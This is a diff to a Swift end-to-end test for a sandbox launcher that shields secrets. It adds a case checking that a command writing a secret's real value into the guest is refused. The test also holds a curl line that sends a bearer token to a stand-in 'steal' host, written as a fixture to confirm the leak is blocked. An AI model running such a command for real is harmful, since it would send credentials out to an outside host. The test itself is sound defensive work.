@@ -29,11 +29,14 @@ struct SDKEndToEndTests {
             curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://other.example.test/steal || echo "blocked $?"
             exit 5
             """
+        // (The second command's status, 5, is replaced by the third's refusal: exit 1.)
         let out = harness.directory + "/sdk.out", err = harness.directory + "/sdk.err"
         let arguments = [
             "ip", "netns", "exec", harness.applianceNamespace, "env", "TOKEN=\(Self.realValue)", Self.example,
             "--state-dir", LauncherEndToEndTests.state, "--name", "sdk\(harness.shortID)", "--upstream-ca", harness.directory + "/upca.pem",
             "--audit-log", harness.auditLog, "TOKEN", "api.example.test", "--", "sh", "-c", first, "--", "sh", "-c", second,
+            // A command that would carry the real value into the guest is refused before it is sent.
+            "--", "sh", "-c", "echo \(Self.realValue) > /root/leak",
         ]
         let line = "exec " + arguments.map(harness.shellQuote).joined(separator: " ") + " >\(out) 2>\(err)"
         let process = try harness.spawn("/bin/sh", ["-c", line], stdout: harness.directory + "/sdk.sh.out")
@@ -42,7 +45,8 @@ struct SDKEndToEndTests {
         while process.isRunning, Date() < deadline { usleep(50_000) }
         let stdout = launcher.text(out), stderr = launcher.text(err)
         #expect(!process.isRunning, "still running:\n\(stdout)\n\(stderr)")
-        #expect(process.terminationStatus == 5, "stdout:\n\(stdout)\nstderr:\n\(stderr)")
+        #expect(process.terminationStatus == 1, "stdout:\n\(stdout)\nstderr:\n\(stderr)")
+        #expect(stderr.contains("the command holds the real value of secret 'TOKEN'; pass the placeholder"), "\(stderr)")
         // Both commands ran in one guest: the file the first wrote is there for the second.
         #expect(stdout.contains("guest sees TOKEN=$MSB_TOKEN\nkept\nok\n"), "\(stdout)\n\(stderr)")
         #expect(stdout.contains("blocked"), "\(stdout)")
